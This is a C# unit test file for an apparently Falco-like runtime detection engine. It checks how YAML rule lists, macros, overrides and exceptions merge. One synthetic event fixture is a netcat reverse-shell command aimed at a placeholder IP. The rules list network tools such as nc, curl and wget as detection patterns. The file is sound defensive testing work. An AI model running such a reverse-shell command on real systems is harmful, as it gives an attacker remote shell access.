using Vigil.Detection.Rules;
using Vigil.Events;
using static Vigil.Detection.Tests.SyntheticEvents;

namespace Vigil.Detection.Tests;

public sealed class MergeAndExceptionTests
{
    private static readonly ProcessExecEvent Nc = Exec("/usr/bin/nc", ["nc", "-e", "/bin/sh", "1.2.3.4"]);

    private const string Base = """
        - list: tools
          items: [curl, wget]
        - list: all_tools
          items: [tools, '"n c"']
        - macro: is_tool
          condition: proc.name in (all_tools)
        - rule: Tool run
          desc: a tool ran
          condition: evt.type = execve and is_tool
          output: tool %proc.name
          priority: NOTICE
          tags: [a]
        """;

    private static int Fired(string yaml, VigilEvent e) => RuleHarness.Load(yaml).RuleSet.Evaluate(e).Count;

    [Fact]
    public void Lists_nest_and_macros_expand()
    {
        Assert.Equal(1, Fired(Base, Exec("/usr/bin/curl", ["curl", "x"])));
        Assert.Equal(0, Fired(Base, Nc));
    }

    [Fact]
    public void Legacy_list_append_extends_the_list()
    {
        Assert.Equal(1, Fired(Base + "\n- list: tools\n  items: [nc]\n  append: true\n", Nc));
    }

    [Fact]
    public void List_override_replace_and_append()
    {
        string replace = Base + "\n- list: tools\n  items: [nc]\n  override:\n    items: replace\n";
        Assert.Equal(1, Fired(replace, Nc));
        Assert.Equal(0, Fired(replace, Exec("/usr/bin/curl", ["curl"])));
        Assert.Equal(1, Fired(Base + "\n- list: tools\n  items: [nc]\n  override:\n    items: append\n", Nc));
    }

    [Fact]
    public void Macro_append_and_override()
    {
        Assert.Equal(1, Fired(Base + "\n- macro: is_tool\n  condition: or proc.name = nc\n  append: true\n", Nc));
        Assert.Equal(1, Fired(Base + "\n- macro: is_tool\n  condition: proc.name = nc\n  override:\n    condition: replace\n", Nc));
    }

    [Fact]
    public void Rule_condition_append_both_forms()
    {
        ProcessExecEvent curl = Exec("/usr/bin/curl", ["curl", "x"]);
        Assert.Equal(0, Fired(Base + "\n- rule: Tool run\n  condition: and proc.pid = 1\n  append: true\n", curl));
        Assert.Equal(0, Fired(Base + "\n- rule: Tool run\n  condition: and proc.pid = 1\n  override:\n    condition: append\n", curl));
        Assert.Equal(1, Fired(Base + "\n- rule: Tool run\n  condition: and proc.pid = 1000\n  override:\n    condition: append\n", curl));
    }

    [Fact]
    public void Rule_override_replaces_output_priority_and_appends_tags()
    {
        string yaml = Base + """

            - rule: Tool run
              output: replaced %proc.exepath
              priority: CRITICAL
              tags: [b]
              override:
                output: replace
                priority: replace
                tags: append
            """;
        RuleDetection d = Assert.Single(RuleHarness.Load(yaml).RuleSet.Evaluate(Exec("/usr/bin/curl", ["curl"])));
        Assert.Equal("replaced /usr/bin/curl", d.Output);
        Assert.Equal(RulePriority.Critical, d.Priority);
        Assert.Equal(["a", "b"], d.Tags);
    }

    [Fact]
    public void Enabled_false_entry_disables_an_existing_rule()
    {
        RuleLoadResult result = RuleHarness.Load(Base + "\n- rule: Tool run\n  enabled: false\n");
        Assert.Equal(RuleState.Disabled, result.Report.Find("Tool run")!.State);
        Assert.Empty(result.RuleSet.Evaluate(Exec("/usr/bin/curl", ["curl"])));
    }

    [Fact]
    public void Append_to_undefined_rule_is_an_error_with_location()
    {
        RuleLoadResult result = RuleHarness.Load(Base + "\n- rule: Nope\n  condition: and proc.pid = 1\n  append: true\n");
        RuleException error = Assert.Single(result.Report.Errors);
        Assert.Equal("Nope", error.ItemName);
        Assert.Equal(13, error.Location!.Value.Line);
    }

    private const string WithExceptions = """
        - rule: Shell via tool
          desc: d
          condition: evt.type = execve and proc.name in (nc, ncat)
          output: o
          priority: WARNING
          exceptions:
            - name: trusted_parent_and_args
              fields: [proc.pname, proc.args]
              comps: [=, startswith]
              values:
                - [bash, -z]
            - name: trusted_names
              fields: proc.exepath
              values: [/opt/nc, /usr/local/bin/nc]
            - name: parents_in
              fields: [proc.pname]
              comps: [in]
              values:
                - [[cron, anacron]]
        """;

    [Fact]
    public void Exceptions_exclude_matching_tuples_only()
    {
        Assert.Equal(1, Fired(WithExceptions, Nc));
        Assert.Equal(0, Fired(WithExceptions, Exec("/usr/bin/nc", ["nc", "-z", "host", "22"])));
        Assert.Equal(0, Fired(WithExceptions, Exec("/opt/nc", ["nc", "-e", "x"])));
        ProcessInfo cron = Process("/usr/sbin/cron", ["cron"], pid: 50);
        Assert.Equal(0, Fired(WithExceptions, Exec("/usr/bin/nc", ["nc", "-e", "x"], cron)));
    }

    [Fact]
    public void Exception_values_append_through_override()
    {
        string yaml = WithExceptions + """

            - rule: Shell via tool
              exceptions:
                - name: trusted_names
                  values: [/usr/bin/nc]
              override:
                exceptions: append
            """;
        Assert.Equal(0, Fired(yaml, Nc));
    }
}
